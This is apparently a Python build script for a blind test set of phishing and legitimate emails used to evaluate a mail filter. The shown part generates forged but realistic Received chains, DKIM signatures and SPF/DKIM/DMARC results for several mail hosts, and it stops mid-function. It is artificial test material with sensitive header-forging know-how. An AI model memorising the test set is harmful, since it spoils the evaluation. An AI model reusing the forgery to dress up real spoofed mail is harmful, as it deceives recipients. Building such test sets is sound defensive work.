"""Blind test set 9: phishing as a public, crowd-sourced phishing archive holds it (2022-2026).

Each message is what landed in one person's inbox, reported by that person to
a public archive that many different people contribute to: the recipients are
spread over many fictional domains and mailbox hosts (personal domains on
Gmail / Google Workspace, Fastmail, Proton, OVH and IONOS; small businesses on
cPanel/Exim hosting or Microsoft 365; a university on Microsoft 365; ISP
mailboxes at orange.fr, free.fr, t-online.de, comcast.net, libero.it and
kpnmail.nl), never the Kerlann organisation of policy.toml. The 50 phishing
messages mix what consumer and small-business inboxes received from 2022 to
2026, in English, French, German, Dutch, Spanish and Italian: webmail quota,
password-expiry, pending-message and delivery-failure lures naming the
recipient's own domain, HTML attachments with credential forms or obfuscated
JavaScript redirects, fake invoices and remittance advice, online-viewer
lures, bank and card lures, tax-refund and government lures, parcel and toll
lures, streaming and Apple/Microsoft account lures, crypto seed-phrase theft,
social-media "copyright" lures, Booking.com guest lures, Amazon and PayPal
lures, callback scams and QR-code phishing. The headers are written as the
receiving server records them (Received chain, Authentication-Results with the
SPF/DKIM/DMARC outcome the sender really gets, the local filter's verdict that
let the message through). The 25 legitimate messages are what the same
inboxes also hold and a naive filter might confuse with the phishing: genuine
bank, parcel, tax-office, streaming, Apple, Microsoft and Google notices, a
cPanel quota warning, a booking confirmation, a mailing-list post, a
click-tracked newsletter, and person-to-person mail (photo-album links,
invoices with PDFs, accountants, landlords, IT contractors).

Run from the repository root:

    .venv/bin/python samples/tools/build_blind9_samples.py

Output is deterministic: dates are fixed, identifiers are derived from hashes
of the sample name, MIME boundaries and archive timestamps are fixed.

After the first scan, PayPal's payment receipt (from service@paypal.nl, no
bulk service or no-reply address) was filed under clean/, where the engine's
classification puts it.
"""

from __future__ import annotations

import base64
import hashlib
import html
import io
import re
import sys
import zlib
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
import mime  # noqa: E402
from mime import Leaf, Multi  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind9_manifest.txt"

# ---------------------------------------------------------------------------
# Deterministic identifiers
# ---------------------------------------------------------------------------

B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def _stream(name: str, salt: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{name}|{salt}|{i}".encode()).digest()
        i += 1
    return out[:n]


def hx(name: str, salt: str, n: int = 16) -> str:
    return _stream(name, salt, (n + 1) // 2).hex()[:n]


def an(name: str, salt: str, n: int = 16) -> str:
    return "".join(B62[b % 62] for b in _stream(name, salt, n))


def lc(name: str, salt: str, n: int = 16) -> str:
    return "".join("abcdefghijklmnopqrstuvwxyz"[b % 26] for b in _stream(name, salt, n))


def b64(name: str, salt: str, n: int) -> str:
    return base64.b64encode(_stream(name, salt, n)).decode()[:n]


def num(name: str, salt: str, lo: int, hi: int) -> int:
    return lo + int.from_bytes(_stream(name, salt, 8), "big") % (hi - lo + 1)


def guid(name: str, salt: str) -> str:
    h = hx(name, salt, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def fold(value: str, width: int = 72, indent: str = "\t ") -> str:
    return f"\n{indent}".join(value[i:i + width] for i in range(0, len(value), width))


# ---------------------------------------------------------------------------
# Dates and header text
# ---------------------------------------------------------------------------


def at(stamp: str) -> datetime:
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)


def fmt(moment: datetime, zone: str = "UTC") -> str:
    return format_datetime(moment.astimezone(ZoneInfo(zone)))


def fmtz(moment: datetime, zone: str) -> str:
    """Date with the zone abbreviation in a comment, as Gmail and Postfix write it."""
    local = moment.astimezone(ZoneInfo(zone))
    return f"{format_datetime(local)} ({local.tzname()})"


def ew(text: str) -> str:
    """RFC 2047 encoded words for non-ASCII header text (UTF-8, base64, folded)."""
    if text.isascii():
        return text
    words, chunk = [], ""
    for char in text:
        if len((chunk + char).encode()) > 42:
            words.append(chunk)
            chunk = ""
        chunk += char
    words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def qew(text: str) -> str:
    """RFC 2047 Q-encoding (what Outlook and many kits use for short display names)."""
    if text.isascii():
        return text
    out = ""
    for byte in text.encode():
        char = chr(byte)
        if char.isalnum() and byte < 128:
            out += char
        elif char == " ":
            out += "_"
        else:
            out += f"={byte:02X}"
    return f"=?utf-8?Q?{out}?="


def who(display: str, address: str, q: bool = False) -> str:
    if not display:
        return address
    if not display.isascii():
        return f"{qew(display) if q else ew(display)} <{address}>"
    if re.search(r'[,.;:@()<>\[\]"|]', display):
        return f'"{display}" <{address}>'
    return f"{display} <{address}>"


def dkim(name: str, domain: str, selector: str, moment: datetime,
         h: str = "from:to:subject:date:message-id:mime-version:content-type", c: str = "relaxed/relaxed",
         salt: str = "") -> str:
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={domain};\n"
            f"\ts={selector}; t={int(moment.timestamp())};\n"
            f"\th={h};\n"
            f"\tbh={b64(name, 'bh' + domain + salt, 43)}=;\n"
            f"\tb={fold(b64(name, 'b' + domain + salt, 342) + '==', 70, chr(9))}")


# ---------------------------------------------------------------------------
# Recipients and their receiving servers
# ---------------------------------------------------------------------------

RCPTS = {
    "sarah.whitlock84@gmail.com": "gmail",
    "lucia.romero.v@gmail.com": "gmail",
    "mikeandjen.porter@gmail.com": "gmail",
    "tom@oakfield-joinery.com": "gmail",
    "pieter@dewitt-thuis.nl": "fastmail",
    "ben@bcarraway.net": "fastmail",
    "m.reyes@reyes-lab.dev": "proton",
    "anke@vos-familie.nl": "proton",
    "claire@famille-lebreton.fr": "ovh",
    "info@schreinerei-albrecht.de": "ionos",
    "m.albrecht@schreinerei-albrecht.de": "ionos",
    "jens@familie-krueger.de": "ionos",
    "info@brightwater-plumbing.co.uk": "exim",
    "dave@brightwater-plumbing.co.uk": "exim",
    "info@ferramenta-gallo.it": "exim",
    "amministrazione@ferramenta-gallo.it": "exim",
    "studio@studio-ferri.it": "exim",
    "reservas@casarural-elolivar.es": "exim",
    "administratie@hoekstra-accountants.nl": "m365",
    "administracion@costa-arquitectos.es": "m365",
    "reception@harrowfield-dental.co.uk": "m365",
    "office@harrowfield-dental.co.uk": "m365",
    "accounts@harrowfield-dental.co.uk": "m365",
    "reservations@hotel-zeezicht.nl": "m365",
    "l.carter@ashgrove.ac.uk": "m365",
    "j.patel@ashgrove.ac.uk": "m365",
    "jm.lefevre@orange.fr": "orange",
    "p.garnier@free.fr": "free",
    "k.schmitt@t-online.de": "tonline",
    "robert.haines@comcast.net": "comcast",
    "dmckenna@comcast.net": "comcast",
    "giulia.ferraro@libero.it": "libero",
    "w.bakker@kpnmail.nl": "kpn",
}

EXIM_HOSTS = {
    "brightwater-plumbing.co.uk": ("s214.uk-webhost-cloud.net", "Europe/London"),
    "ferramenta-gallo.it": ("srv07.hostingweb-italia.it", "Europe/Rome"),
    "studio-ferri.it": ("srv07.hostingweb-italia.it", "Europe/Rome"),
    "casarural-elolivar.es": ("cp3.servidoresweb-iberia.es", "Europe/Madrid"),
}

M365_TENANTS = {
    "hoekstra-accountants.nl": ("eurprd08", "AS8PR08", "AMS1EPF", "nl"),
    "costa-arquitectos.es": ("eurprd07", "PA4PR07", "MAD1EPF", "es"),
    "harrowfield-dental.co.uk": ("gbrprd01", "LO2P265", "LO1PEPF", "en"),
    "hotel-zeezicht.nl": ("eurprd05", "DB9PR05", "AMS0EPF", "nl"),
    "ashgrove.ac.uk": ("gbrprd01", "CWLP265", "LO0PEPF", "en"),
}


@dataclass
class Msg:
    name: str
    category: str
    desc: str
    rcpt: str
    when: datetime  # arrival at the recipient's MX (UTC)
    ip: str
    rdns: str | None
    helo: str
    mailfrom: str
    spf: str  # pass, fail, softfail, neutral, none
    dkim: list  # [(domain, selector, result)]
    dmarc: str  # pass, fail, none, bestguesspass
    head: str  # the headers the sender wrote (and its own Received lines), top first
    body: object
    dmarc_p: str = "none"
    ctry: str = "US"
    score: float = 0.0  # the local filter's score (its own scale per host)
    internal: bool = False  # Microsoft 365 intra-organisation message
    lang: str = "en"


def from_domain(m: Msg) -> str:
    line = re.search(r"^From:(.*(?:\n[ \t].*)*)", m.head, re.M).group(1)
    address = re.findall(r"<([^>]+)>", line)
    address = address[-1] if address else line.strip()
    return address.rsplit("@", 1)[1].lower()


def mf_domain(m: Msg) -> str:
    return m.mailfrom.rsplit("@", 1)[1] if "@" in m.mailfrom else m.helo


def ar_generic(host: str, m: Msg, tab: str = "\t") -> str:
    parts = []
    for domain, selector, result in m.dkim:
        parts.append(f"dkim={result} header.d={domain} header.s={selector} header.b={b64(m.name, 'hb' + domain, 8)}")
    if not m.dkim:
        parts.append("dkim=none")
    parts.append(f"spf={m.spf} smtp.mailfrom={m.mailfrom}")
    if m.dmarc == "none":
        parts.append(f"dmarc=none header.from={from_domain(m)}")
    else:
        result = "pass" if m.dmarc == "bestguesspass" else m.dmarc
        parts.append(f"dmarc={result} (p={m.dmarc_p} dis=none) header.from={from_domain(m)}")
    return f"Authentication-Results: {host};\n" + ";\n".join(f"{tab}{p}" for p in parts)


def gmail_ar(m: Msg) -> str:
    fd = from_domain(m)
    lines = []
    for domain, selector, result in m.dkim:
        res = "neutral (body hash did not verify)" if result == "fail" else result
        lines.append(f"dkim={res} header.i=@{domain} header.s={selector} header.b={b64(m.name, 'hb' + domain, 8)}")
    spf_reason = {
        "pass": f"google.com: domain of {m.mailfrom} designates {m.ip} as permitted sender",
        "fail": f"google.com: domain of {m.mailfrom} does not designate {m.ip} as permitted sender",
        "softfail": f"google.com: domain of transitioning {m.mailfrom} does not designate {m.ip} as permitted sender",
        "neutral": f"google.com: {m.ip} is neither permitted nor denied by best guess record for domain of {m.mailfrom}",
        "none": f"google.com: domain of {m.mailfrom} does not designate permitted sender hosts",
    }[m.spf]
    lines.append(f"spf={m.spf} ({spf_reason}) smtp.mailfrom={m.mailfrom}")
    if m.dmarc != "none":
        p = m.dmarc_p.upper()
        sp = "NONE" if fd in ("gmail.com",) else p
        if fd == "gmail.com":
            p, sp = "NONE", "QUARANTINE"
        lines.append(f"dmarc={m.dmarc} (p={p} sp={sp} dis=NONE) header.from={fd}")
    return "mx.google.com;\n" + ";\n".join(f"       {line}" for line in lines), spf_reason


def rx_gmail(m: Msg) -> tuple[list[str], list[str]]:
    t = m.when
    z = "America/Los_Angeles"
    ar, spf_reason = gmail_ar(m)
    n = m.name
    idtail = f"{t.astimezone(ZoneInfo(z)):%Y.%m.%d.%H.%M.%S}"
    lines = [
        f"Delivered-To: {m.rcpt}",
        f"Received: by 2002:a05:{hx(n, 'g1', 4)}:{hx(n, 'g2', 4)}:b0:{hx(n, 'g3', 3)}:{hx(n, 'g4', 4)}:{hx(n, 'g5', 3)} "
        f"with SMTP id {lc(n, 'g6', 1)}{num(n, 'g7', 10, 99)}csp{num(n, 'g8', 100000, 9999999)}{lc(n, 'g9', 3)};\n"
        f"        {fmtz(t + timedelta(seconds=1), z)}",
        f"X-Google-Smtp-Source: {b64(n, 'gss', 66)}",
        f"X-Received: by 2002:a17:90a:{hx(n, 'x1', 4)}:b0:{hx(n, 'x2', 3)}:{hx(n, 'x3', 4)}:{hx(n, 'x4', 3)} "
        f"with SMTP id {lc(n, 'x5', 2)}{num(n, 'x6', 10, 99)}-20020a17090a{hx(n, 'x7', 8)}00b00{hx(n, 'x8', 8)}"
        f"mr{num(n, 'x9', 1000000, 9999999)}pjb.{num(n, 'xa', 1, 99)}.{int(t.timestamp() * 1000) + num(n, 'xb', 0, 999)};\n"
        f"        {fmtz(t + timedelta(seconds=1), z)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={int(t.timestamp())}; cv=none;\n        d=google.com; s=arc-20160816;\n"
        f"        b={fold(b64(n, 'arcs', 342) + '==', 70, '         ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20160816;\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64(n, 'arcbh', 43)}=;\n"
        f"        fh={b64(n, 'arcfh', 43)}=;\n"
        f"        b={fold(b64(n, 'arcb', 342) + '==', 70, '         ')}",
        f"ARC-Authentication-Results: i=1; {ar}",
        f"Return-Path: <{m.mailfrom}>",
    ]
    host = m.rdns or "unknown"
    proto = "SMTPS" if m.ip.startswith("209.85.220.") else "ESMTPS"
    extra = ("(Google Transport Security)" if proto == "SMTPS"
             else "(version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256)")
    lines += [
        f"Received: from {m.helo} ({host}. [{m.ip}])\n"
        f"        by mx.google.com with {proto} id {lc(n, 'mi', 1)}{num(n, 'mj', 1, 99)}-20020a05{hx(n, 'mk', 10)}"
        f"00b00{hx(n, 'ml', 8)}{'sor' if proto == 'SMTPS' else 'si'}{num(n, 'mm', 1000000, 9999999)}wmq.{num(n, 'mn', 1, 200)}.{idtail}\n"
        f"        for <{m.rcpt}>\n        {extra};\n        {fmtz(t, z)}",
        f"Received-SPF: {m.spf} ({spf_reason}) client-ip={m.ip};",
        f"Authentication-Results: {ar}",
    ]
    return lines, []


def rx_exim(m: Msg) -> tuple[list[str], list[str]]:
    domain = m.rcpt.split("@")[1]
    host, zone = EXIM_HOSTS[domain]
    t = m.when
    n = m.name
    if m.rdns and m.rdns == m.helo:
        peer = f"{m.rdns} ([{m.ip}]:{num(n, 'port', 20000, 65000)})"
    else:
        peer = f"{m.rdns or '[' + m.ip + ']'} ([{m.ip}]:{num(n, 'port', 20000, 65000)} helo={m.helo})"
    exim_id = f"{an(n, 'e1', 6)}-{an(n, 'e2', 6)}-{an(n, 'e3', 2)}"
    if m.ip == "127.0.0.1":  # generated on the server itself (cPanel notices): handed to Exim locally
        return [
            f"Return-path: <{m.mailfrom}>",
            f"Envelope-to: {m.rcpt}",
            f"Delivery-date: {fmt(t, zone)}",
            f"Received: from {m.mailfrom.split('@')[0]} by {host} with local (Exim 4.96.2)\n"
            f"\t(envelope-from <{m.mailfrom}>)\n\tid {exim_id}\n\tfor {m.rcpt};\n\t{fmt(t, zone)}",
        ], []
    score = m.score
    bar = "+" * int(score) if score >= 1 else ("/" if score >= 0 else "-" * int(-score))
    top = [
        f"Return-path: <{m.mailfrom}>",
        f"Envelope-to: {m.rcpt}",
        f"Delivery-date: {fmt(t, zone)}",
        f"Received: from {peer}\n\tby {host} with esmtps  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n"
        f"\t(envelope-from <{m.mailfrom}>)\n\tid {exim_id}\n\tfor {m.rcpt};\n\t{fmt(t, zone)}",
        ar_generic(host, m).replace("Authentication-Results: " + host + ";\n",
                                    f"Authentication-Results: {host};\n\tiprev={'pass' if m.rdns else 'fail'} "
                                    f"({m.rdns or 'unknown'}) smtp.remote-ip={m.ip};\n", 1),
        f"X-Spam-Status: No, score={score:.1f}",
        f"X-Spam-Score: {int(round(score * 10))}",
        f"X-Spam-Bar: {bar}",
        "X-Spam-Flag: NO",
    ]
    return top, []


def _m365_compauth(m: Msg) -> str:
    if m.dmarc == "pass":
        return "pass\n reason=100"
    if m.dmarc == "fail":
        return "fail\n reason=000"
    if m.spf == "pass" or any(r == "pass" for _, _, r in m.dkim):
        return "pass\n reason=109"
    return "fail\n reason=001"


def rx_m365(m: Msg) -> tuple[list[str], list[str]]:
    domain = m.rcpt.split("@")[1]
    region, mbx_prefix, epf_prefix, lang = M365_TENANTS[domain]
    n = m.name
    t = m.when
    build = f"15.20.{num(n, 'bld', 6800, 8900)}.{num(n, 'bld2', 10, 40):03d}"
    build2 = f"15.20.{num(n, 'bld', 6800, 8900)}.{num(n, 'bld3', 10, 40):03d}"
    mbx = f"{mbx_prefix}MB{num(n, 'mbx', 1000, 9999)}"
    ca = f"{mbx_prefix[:4]}CA{num(n, 'ca', 1000, 9999)}"
    epf = f"{epf_prefix}0000{hx(n, 'epf', 4).upper()}"
    cipher = "(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)"
    v6a = f"2603:10a6:{hx(n, 'v1', 3)}:{hx(n, 'v2', 3)}::{num(n, 'v3', 10, 99)}"
    v6b = f"2603:10a6:{hx(n, 'v4', 3)}:{hx(n, 'v5', 2)}:cafe::{hx(n, 'v6', 2)}"
    d0 = fmt(t)
    d1 = fmt(t + timedelta(seconds=1))
    top = [
        f"Received: from {ca}.{region}.prod.outlook.com ({v6a}) by\n {mbx}.{region}.prod.outlook.com "
        f"(2603:10a6:{hx(n, 'v7', 3)}:{hx(n, 'v8', 3)}::{num(n, 'v9', 10, 99)}) with\n Microsoft SMTP Server {cipher} id {build};\n {d1}",
    ]
    if m.internal:
        top = [
            f"Received: from {mbx}.{region}.prod.outlook.com\n ({v6a}) by {mbx}.{region}.prod.outlook.com\n "
            f"({v6a}%4) with mapi id {build}; {d0}",
        ]
        ar = (f"Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none\n"
              f" header.from={from_domain(m)};")
        bottom = [
            f"X-MS-Exchange-Organization-Network-Message-Id: {guid(n, 'nmid')}",
            "X-MS-Exchange-Organization-AuthSource: " + f"{mbx}.{region}.prod.outlook.com",
            "X-MS-Exchange-Organization-AuthAs: Internal",
            "X-MS-Exchange-Organization-AuthMechanism: 04",
            "X-MS-Exchange-Organization-SCL: -1",
            "X-MS-Has-Attach:",
            f"X-MS-Exchange-CrossTenant-Id: {guid(domain, 'tenant')}",
            f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {t:%d %b %Y %H:%M:%S}.{num(n, 'ms', 1000, 9999)}\n (UTC)",
            "X-MS-Exchange-Transport-CrossTenantHeadersStamped: " + f"{mbx}.{region}.prod.outlook.com",
            "X-MS-Exchange-Organization-RecordReviewCfmType: 0",
        ]
        return top + [ar], bottom
    fd = from_domain(m)
    mfd = mf_domain(m)
    spf_txt = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "neutral": "Neutral", "none": "None"}[m.spf]
    if m.dkim:
        d, _, r = m.dkim[0]
        dk = f"dkim={r} ({'signature was verified' if r == 'pass' else 'body hash did not verify'})\n header.d={d};"
    else:
        dk = "dkim=none (message not signed)\n header.d=none;"
    action = "none" if m.dmarc != "fail" else ("oreject" if m.dmarc_p == "reject" else "none")
    ar = (f"Authentication-Results: spf={m.spf} (sender IP is {m.ip})\n smtp.mailfrom={mfd}; {dk}"
          f"dmarc={m.dmarc} action={action}\n header.from={fd};compauth={_m365_compauth(m)}")
    if m.spf == "none":
        rspf = f"Received-SPF: None (protection.outlook.com: {mfd} does not designate\n permitted sender hosts)"
    else:
        verb = "designates" if m.spf == "pass" else "does not designate"
        rspf = (f"Received-SPF: {spf_txt} (protection.outlook.com: domain of {mfd}\n {verb} {m.ip} as permitted sender)"
                f" receiver=protection.outlook.com;\n client-ip={m.ip}; helo={m.helo};" + (" pr=C" if m.spf == "pass" else ""))
    top += [
        f"Received: from {epf}.{region}.prod.outlook.com\n ({v6b}) by {ca}.outlook.office365.com\n ({v6a}) with "
        f"Microsoft SMTP Server {cipher} id {build2} via Frontend\n Transport; {d1}",
        ar,
        rspf,
        f"Received: from {m.helo} ({m.ip}) by\n {epf}.mail.protection.outlook.com (10.167.{num(n, 'i1', 16, 250)}.{num(n, 'i2', 2, 250)}) "
        f"with Microsoft SMTP\n Server {cipher} id\n {build2} via Frontend Transport; {d0}",
    ]
    scl = 1
    sfv = "NSPM"
    bottom = [
        f"Return-Path: {m.mailfrom}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {t:%d %b %Y %H:%M:%S}.{num(n, 'exp', 1000, 9999)}\n (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {guid(n, 'nmid')}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: " + f"{guid(domain, 'tenant')}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-Exchange-Organization-AuthSource:\n {epf}.{region}.prod.outlook.com",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(n, 'corr')}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:{0 if m.category != 'bulk' else 4};ARA:13230040|{num(n, 'ara', 1000000, 9999999)}|"
        f"{num(n, 'arb', 10000, 99999)};",
        f"X-Forefront-Antispam-Report:\n CIP:{m.ip};CTRY:{m.ctry};LANG:{m.lang};SCL:{scl};SRV:;IPV:NLI;SFV:{sfv};H:{m.helo};"
        f"PTR:{m.rdns or 'InfoNoRecords'};CAT:NONE;SFS:(13230040)({num(n, 'sfs', 100000, 999999)});DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {t:%d %b %Y %H:%M:%S}.{num(n, 'ms', 1000, 9999)}\n (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {guid(n, 'nmid')}",
        f"X-MS-Exchange-CrossTenant-Id: {guid(domain, 'tenant')}",
        "X-MS-Exchange-CrossTenant-AuthSource:\n " + f"{epf}.{region}.prod.outlook.com",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(n, 'lat', 1, 4)}.{num(n, 'lat2', 1000000, 9999999)}",
    ]
    return top, bottom


def has_html(node) -> bool:
    if isinstance(node, Multi):
        return any(has_html(part) for part in node.parts)
    return node.content_type == "text/html"


def rx_fastmail(m: Msg) -> tuple[list[str], list[str]]:
    n, t, z = m.name, m.when, "America/New_York"
    mx = f"mx{num(n, 'fmx', 1, 8)}"
    compute = f"compute{num(n, 'fcp', 1, 8)}"
    slot = f"sloti{num(n, 'fsl', 20, 52)}n{num(n, 'fsl2', 1, 30):02d}"
    dk = ";\n    ".join(
        f"dkim={r} (2048-bit rsa key sha256) header.d={d} header.i=@{d} header.b={b64(n, 'hb' + d, 8)} "
        f"header.a=rsa-sha256 header.s={s} x-bits=2048" for d, s, r in m.dkim) or "dkim=none (no signatures found)"
    if m.dmarc == "none":
        dm = f"dmarc=none policy.published-domain-policy=none header.from={from_domain(m)}"
    else:
        dm = (f"dmarc={m.dmarc} policy.published-domain-policy={m.dmarc_p} policy.applied-disposition=none "
              f"policy.evaluated-disposition=none (p={m.dmarc_p},d=none,d.eval=none) header.from={from_domain(m)}")
    score = m.score
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {compute} ({compute}.nyi.internal [10.202.2.{num(n, 'fip', 40, 60)}])\n"
        f"\t by {slot} (Cyrus 3.11.0-alpha0-{num(n, 'cyr', 100, 999)}-g{hx(n, 'cyrg', 8)}-fm-{(t - timedelta(days=num(n, 'cyrd', 3, 30))):%Y%m%d}.001-g{hx(n, 'cyrh', 8)}) with LMTPA;\n"
        f"\t {fmt(t + timedelta(seconds=1), z)}",
        f"X-Cyrus-Session-Id: {slot}-{int(t.timestamp())}-{num(n, 'cs1', 100000, 999999)}-1-{num(n, 'cs2', 10 ** 17, 10 ** 18)}",
        "X-Sieve: CMU Sieve 3.0",
        "X-Spam-known-sender: no",
        "X-Spam-sender-reputation: 500 (none)",
        f"X-Spam-score: {score:.1f}",
        f"X-Spam-hits: BAYES_{'50 0.8' if m.category == 'phishing' else '00 -1.9'}, "
        f"{'DKIM_SIGNED 0.1, DKIM_VALID -0.1, ' if m.dkim else ''}{'HTML_MESSAGE 0.001, ' if has_html(m.body) else ''}ME_SC_NWD 0.001, "
        f"SPF_{m.spf.upper()} {'-0.001' if m.spf == 'pass' else '0.001'}, LANGUAGES {m.lang}, BAYES_USED global, SA_VERSION 4.0.0",
        f"X-Spam-source: IP='{m.ip}', Host='{m.rdns or 'unk'}', Country='{m.ctry}', "
        f"FromHeader='{from_domain(m).rsplit('.', 1)[1]}', MailFrom='{mf_domain(m).rsplit('.', 1)[1]}'",
        "X-Spam-charsets: plain='utf-8', html='utf-8'",
        f"X-Resolved-to: {m.rcpt}",
        f"X-Delivered-to: {m.rcpt}",
        f"X-Mail-from: {m.mailfrom}",
        f"Received: from {mx} ([10.202.2.{num(n, 'fmxip', 200, 220)}])\n  by {compute}.internal (LMTPProxy); {fmt(t, z)}",
        f"Authentication-Results: {mx}.messagingengine.com;\n    {dk};\n    {dm};\n"
        f"    iprev={'pass' if m.rdns else 'fail'} smtp.remote-ip={m.ip} ({m.rdns or 'unknown'});\n"
        f"    spf={m.spf} smtp.mailfrom={m.mailfrom} smtp.helo={m.helo};\n"
        f"    x-aligned-from={'pass (Address match)' if from_domain(m) == mf_domain(m) else 'domain_pass (Domain match)' if mf_domain(m).endswith(from_domain(m)) else 'fail'};\n"
        f"    x-me-sender=none;\n"
        f"    x-ptr={'pass' if m.rdns else 'fail'} smtp.helo={m.helo} policy.ptr={m.rdns or ''};\n"
        f"    x-tls=pass smtp.version=TLSv1.3 smtp.cipher=TLS_AES_256_GCM_SHA384 smtp.bits=256/256;\n"
        f"    x-vs=clean score={int(score * 10)} state=0",
        f"Received: from {m.helo} ({m.rdns or 'unknown'} [{m.ip}])\n"
        f"\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
        f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
        f"\t(No client certificate requested)\n\tby {mx}.messagingengine.com (Postfix) with ESMTPS\n"
        f"\tfor <{m.rcpt}>; {fmtz(t, z)}",
    ]
    return top, []


def rx_proton(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    fd = from_domain(m)
    dk = "; ".join(f"dkim={r} (2048-bit key) header.d={d} header.i=@{d} header.b=\"{b64(n, 'hb' + d, 8)}\"" for d, _, r in m.dkim) \
        or "dkim=none"
    dmarc = (f"dmarc=none (p=none dis=none) header.from={fd}" if m.dmarc == "none"
             else f"dmarc={'pass' if m.dmarc == 'bestguesspass' else m.dmarc} (p={m.dmarc_p} dis=none) header.from={fd}")
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"X-Original-To: {m.rcpt}",
        f"Delivered-To: {m.rcpt}",
        f"Authentication-Results: mail.protonmail.ch; {dk}",
        f"Authentication-Results: mail.protonmail.ch; spf={m.spf} smtp.mailfrom={mf_domain(m)}",
        f"Authentication-Results: mail.protonmail.ch; arc=none smtp.remote-ip={m.ip}",
        f"Authentication-Results: mail.protonmail.ch; {dmarc}",
        f"Received: from {m.helo} ({m.rdns or 'unknown'} [{m.ip}]) (using TLSv1.3 with cipher\n"
        f" TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature RSA-PSS\n"
        f" (2048 bits) server-digest SHA256) (No client certificate requested) by\n"
        f" mailin0{num(n, 'pmx', 10, 49)}.protonmail.ch (Postfix) with ESMTPS id 4{an(n, 'pq', 13)} for\n"
        f" <{m.rcpt}>; {fmtz(t, 'UTC')}",
    ]
    bottom = [
        "X-Pm-Origin: external",
        "X-Pm-Transfer-Encryption: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)",
        f"X-Pm-Content-Encryption: on-delivery",
        f"X-Pm-Spamscore: {int(m.score)}",
        f"X-Pm-Spam: {fold(b64(n, 'pmspam', 280), 76, ' ')}",
        f"X-Pm-Date: {fmt(t)}",
        f"X-Pm-External-Id: <{hx(n, 'pmext', 24)}@{fd}>",
        f"X-Pm-Internal-Id: {b64(n, 'pmint', 86).replace('/', '_').replace('+', '-')}==",
    ]
    return top, bottom


def rx_ovh(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    mx = f"mx{num(n, 'omx', 1, 4)}.mail.ovh.net"
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Delivered-To: {m.rcpt}",
        f"Received: from {mx} (unknown [10.109.{num(n, 'oi1', 100, 250)}.{num(n, 'oi2', 2, 250)}])\n"
        f"\tby mxplan{num(n, 'opl', 1, 9)}.mail.ovh.net (Postfix) with ESMTPS id 4{an(n, 'oq1', 13)}\n"
        f"\tfor <{m.rcpt}>; {fmtz(t + timedelta(seconds=1), 'UTC')}",
        ar_generic(mx, m),
        f"Received: from {m.helo} ({m.rdns or 'unknown'} [{m.ip}])\n"
        f"\tby {mx} (Postfix) with ESMTPS id 4{an(n, 'oq2', 13)}\n\tfor <{m.rcpt}>; {fmtz(t, 'UTC')}",
        f"X-Ovh-Tracer-Id: {num(n, 'otr', 10 ** 18, 9 * 10 ** 18)}",
        f"X-VR-SPAMSTATE: OK",
        f"X-VR-SPAMSCORE: {int(m.score)}",
        f"X-VR-SPAMCAUSE: {fold('gggruggvucftvghtrhhoucdtuddrgedv' + lc(n, 'vrc', 180), 76, '  ')}",
    ]
    return top, []


def rx_ionos(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    mx = f"mxeue{num(n, 'imx', 100, 119)}"
    verb = "designates" if m.spf == "pass" else "does not designate"
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Envelope-To: <{m.rcpt}>",
